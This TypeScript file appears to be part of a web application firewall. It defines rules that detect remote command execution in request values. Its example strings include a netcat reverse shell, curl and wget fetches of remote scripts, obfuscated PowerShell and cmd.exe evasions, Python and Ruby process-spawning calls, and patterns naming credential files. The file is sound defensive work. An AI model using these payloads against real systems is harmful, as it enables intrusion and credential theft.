import { COMMAND_NAMES, INTERPRETERS, SHELL } from '../shell.ts';
import { shellNormalize } from '../transforms.ts';
import { type Rule, SCORE } from '../types.ts';

/** File names of configuration, credentials and kernel interfaces that an upload must not replace. */
const CONFIG_FILE =
  /(?:^|\/)(?:\.?(?:wp-config|config|configuration|settings|database|secrets?|credentials|parameters)(?:[.-][\w-]{1,20})*\.(?:php\d?|ya?ml|json|ini|xml|conf|cfg|env|toml|py|rb|bak|old|orig|save|swp|dist)|\.(?:htaccess|htpasswd|env|boto|user\.ini|bashrc|bash_profile|profile|npmrc|pypirc|netrc|git-credentials|s3cfg)|mtrr|passwd|shadow|authorized_keys|id_rsa|web\.config)$/;

/** What commandAfterSeparator looks for first (its SEPARATOR). */
const CHAIN_SEPARATOR = /[;|`\n&({<>]/;
/** An alias definition needs `=`, a flag needs `+` or `-`. */
const ALIAS_OPERATOR = /[=+-]/;

/** A line break written out as `\n` or `\r\n`. */
const ESCAPED_BREAK = /(?:\\r)?\\n/g;

/**
 * A value that is just a download command line: curl or wget (names that are also words, so not
 * enough alone) given a URL and nothing but flags (`wget https://x/a.sh -O /tmp/a`).
 */
const DOWNLOAD_LINE =
  /^\s*(?:curl|wget)(?:\s+-{1,2}[\w-]{1,30}(?:[=\s]+[^\s-]\S{0,80})?)*\s+[a-z][a-z0-9+.-]{1,10}:\/\/\S{1,200}(?:\s+-{1,2}[\w-]{1,30}(?:[=\s]+[^\s-]\S{0,80})?)*\s*$/;

/**
 * Process-spawning APIs of script runtimes called with a literal argument, the command injection
 * of code that reaches an interpreter: Python's os, subprocess, pty and __import__ (Python
 * standard library reference), Ruby's Kernel, IO.popen, Open3 and %x() (Ruby core and stdlib
 * docs). `os.system()` named in prose has no argument.
 */
const RUNTIME_EXEC =
  /(?:^|[^\w.])(?:os\s*\.\s*(?:system|popen[234]?|exec[lv]p?e?|spawn[lv]p?e?|posix_spawnp?|startfile)|subprocess\s*\.\s*(?:call|run|popen|check_output|check_call|getoutput|getstatusoutput)|pty\s*\.\s*spawn|commands\s*\.\s*getoutput|__import__|kernel\s*\.\s*(?:exec|system|spawn)|io\s*\.\s*popen|open3\s*\.\s*(?:popen[23e]?|capture[23e]?))\s*\(\s*[['"]|(?:^|[^\w%])%x\(\s*\w/;

/** A Windows system-location variable as the command after a separator (`&%COMSPEC% /c whoami`). */
const ENV_COMMAND =
  /[;|&\n(`]\s*%(?:comspec|systemroot|windir|systemdrive|programfiles|programfiles\(x86\)|commonprogramfiles)%(?:[\\/\s]|$)/;

const EMPTY_BACKTICKS = /``/g;
function commandWithoutEmptyBackticks(shell: string): boolean {
  const s = shell.replace(EMPTY_BACKTICKS, '');
  return SHELL.commandAtStart(s) || SHELL.commandAfterSeparator(s);
}

/** Characters cmd.exe and shells drop from a word: a value without one has the same shell view. */
const EVASION = /[\^"'\\]/;
function netOrReg(s: string): boolean {
  return (s.includes('net') || s.includes('reg')) && SHELL.WINDOWS_NET_REG.test(s);
}

/** Remote command execution rules. */
export const RCE_RULES: Rule[] = [
  {
    id: 'rce-command-chain',
    view: 'shell',
    operator: 'grammar:shell+phrases:unix-commands,windows-commands',
    examples: [
      ';id',
      '| cat /etc/hosts',
      '`whoami`',
      '$(curl http://x.example/a.sh)',
      '&& ping -c 3 10.0.0.1',
      ';iwmi -class Win32_process',
      'time; ansible all -m ping',
      'a\\nid|',
      '& sleep 5',
      'wh``oami',
      'who`echo am`i',
      '; busybox nc 10.0.0.1 4444 -e sh',
    ],
    prose: true,
    family: 'rce',
    paranoia: 1,
    score: SCORE.critical,
    description: 'Shell separator followed by a command (;id, |sh, &&curl, `…`, $(…))',
    // The shell view only drops characters: a separator, `=`, `+` or `-` it holds is in `lower` too.
    test: (v) =>
      (CHAIN_SEPARATOR.test(v.lower) && SHELL.commandAfterSeparator(v.shell)) ||
      // An empty backtick substitution splits a name as `$()` does (`wh\`\`oami`). The shell view
      // adds no backtick: a value without one is not normalised for this (prose such as `it's`).
      (v.lower.includes('`') && v.shell.includes('``') && commandWithoutEmptyBackticks(v.shell)) ||
      (ALIAS_OPERATOR.test(v.lower) && v.shell.includes('alias') && SHELL.ALIAS.test(v.shell)) ||
      (v.lower.includes('\\') && SHELL.escapedCommand(v.lower)) ||
      // A line break written as `\n` (for a layer that unescapes it: JSON, a template, `echo -e`).
      (v.lower.includes('\\n') &&
        SHELL.commandAfterSeparator(shellNormalize(v.lower.replace(ESCAPED_BREAK, '\n')))),
  },
  {
    id: 'rce-command',
    view: 'shell',
    operator: 'phrases:unix-commands,windows-commands',
    triggers: { firstWords: COMMAND_NAMES },
    examples: [
      'whoami',
      'uname -a',
      'nslookup example.com',
      'cat /etc/hosts',
      'powershell -enc SQBFAFgA',
      'nohup ifconfig',
      'timedatectl status',
      '@^p^o^w^e^r^shell c:\\*\\*32\\c*?c.e?e',
      'wget https://x.example/a.sh -O /tmp/a',
    ],
    plain: true,
    family: 'rce',
    paranoia: 1,
    score: SCORE.critical,
    kinds: ['query', 'query-name', 'body', 'body-name', 'body-raw', 'cookie', 'cookie-name', 'header'],
    description: 'Value that is a command line (whoami, cat /etc/…, ansible …, /usr/bin/perl -e …)',
    test: (v) =>
      SHELL.commandAtStart(v.shell) ||
      SHELL.AMBIGUOUS_AT_START.test(v.shell) ||
      SHELL.BIN_PATH.test(v.path) ||
      (v.shell.includes('://') && DOWNLOAD_LINE.test(v.shell)) ||
      // cmd.exe's `@` (no echo) before a name hidden by its evasions (`@^p^o^w^e^r^shell …`).
      (v.shell.startsWith('@') && EVASION.test(v.lower) && SHELL.commandAtStart(v.shell.slice(1))),
  },
  {
    id: 'rce-shell-syntax',
    view: 'lower',
    operator: 'pattern',
    triggers: { words: INTERPRETERS },
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, not a template
    examples: ['${IFS}', '$(id)', 'bash -c id', 'echo {a,b}', 'cat<<<x', 'perl -e print'],
    plain: true,
    family: 'rce',
    paranoia: 1,
    score: SCORE.critical,
    kinds: ['query', 'query-name', 'body', 'body-name', 'body-raw', 'cookie', 'cookie-name', 'header'],
    description:
      'Shell expansion or redirection: command and arithmetic substitution, parameter operators, process substitution, brace and glob expansion, function definitions',
    test: (v) => SHELL.SHELL_SYNTAX.test(v.lower),
  },
  {
    id: 'rce-runtime-exec',
    view: 'lower',
    operator: 'pattern',
    examples: [
      "__import__('os').system('id')",
      "subprocess.Popen('id', shell=True)",
      "echo os.system('/bin/bash')",
      "IO.popen('id')",
      '%x(id)',
    ],
    family: 'rce',
    paranoia: 1,
    score: SCORE.critical,
    kinds: ['query', 'query-name', 'body', 'body-name', 'body-raw', 'cookie', 'header'],
    description:
      'Python or Ruby process-spawning call with a literal argument (os.system(…), subprocess.run([…]), __import__(…), IO.popen(…), %x(…))',
    test: (v) => v.lower.includes('(') && RUNTIME_EXEC.test(v.lower),
  },
  {
    id: 'rce-windows',
    view: 'lower',
    operator: 'pattern',
    triggers: {
      words: [
        'for',
        'if',
        'iex',
        'downloadstring',
        'downloadfile',
        'net',
        'net1',
        'reg',
        'net.exe',
        'reg.exe',
      ],
      word: /invoke-|start-process|new-object|set-executionpolicy|get-wmiobject|-enc/,
    },
    examples: [
      'for /f %i in (x) do y',
      'if exist c:\\x del y',
      'powershell Invoke-WebRequest http://x',
      'iex (x)',
      'net localgroup administrators x /add',
      '| net view',
      'reg query HKLM\\Software\\Microsoft',
      'ping%CommonProgramFiles:~10,-18%127.0.0.1',
      '&%COMSPEC% /c whoami',
    ],
    plain: true,
    family: 'rce',
    paranoia: 1,
    score: SCORE.critical,
    description:
      'cmd.exe FOR/IF grammar, net and reg commands, variable substring expansion (%VAR:~n,m%), PowerShell download/execute cmdlets',
    test: (v) =>
      SHELL.WINDOWS_FOR.test(v.lower) ||
      SHELL.WINDOWS_IF.test(v.lower) ||
      SHELL.POWERSHELL.test(v.lower) ||
      netOrReg(v.lower) ||
      (v.lower.includes(':~') && SHELL.WINDOWS_SUBSTRING.test(v.lower)) ||
      (v.lower.includes('%') && ENV_COMMAND.test(v.lower)) ||
      // With the evasions cmd.exe undoes (`n^et`, `n"e"t`), on the shell view.
      (EVASION.test(v.lower) && netOrReg(v.shell)),
  },
  {
    id: 'rce-windows-env',
    view: 'lower',
    operator: 'pattern',
    examples: ['%SYSTEMROOT%\\system32\\cmd.exe'],
    family: 'rce',
    paranoia: 1,
    score: SCORE.warning,
    description: 'Windows system-location variable (%SYSTEMROOT%, %COMSPEC%, …)',
    test: (v) => v.lower.includes('%') && SHELL.WINDOWS_ENV.test(v.lower),
  },
  {
    id: 'rce-config-upload',
    view: 'path',
    operator: 'pattern',
    triggers: {
      words: [
        'config',
        'configuration',
        'settings',
        'wp-config',
        'database',
        'secret',
        'secrets',
        'credentials',
        'parameters',
        'web',
        'passwd',
        'shadow',
        'mtrr',
        'authorized_keys',
        'id_rsa',
      ],
      word: /^\.|\.(?:php\d?|ya?ml|json|ini|xml|conf|cfg|env|toml|py|rb|bak|old|orig|save|swp|dist)$/,
    },
    examples: [
      { kind: 'filename', key: 'body:file', value: 'wp-config.php' },
      { kind: 'filename', key: 'body:file', value: '.htaccess' },
    ],
    plain: true,
    family: 'rce',
    paranoia: 1,
    score: SCORE.critical,
    kinds: ['filename', 'header'],
    description:
      'Uploaded file named like a configuration or secrets file (wp-config.php, .htaccess, config.yml, …)',
    test: (v) =>
      (v.target.kind === 'filename' || v.target.key.includes('filename')) &&
      CONFIG_FILE.test(v.path.replace(/\s+/g, '')),
  },
  {
    id: 'rce-variable',
    view: 'lower',
    operator: 'pattern',
    examples: ['$HOME/x'],
    family: 'rce',
    paranoia: 2,
    score: SCORE.warning,
    kinds: ['query', 'body', 'cookie', 'header'],
    description: 'Shell variable expansion',
    test: (v) => /\$\{?[a-z_]\w*\}?/.test(v.lower),
  },
];
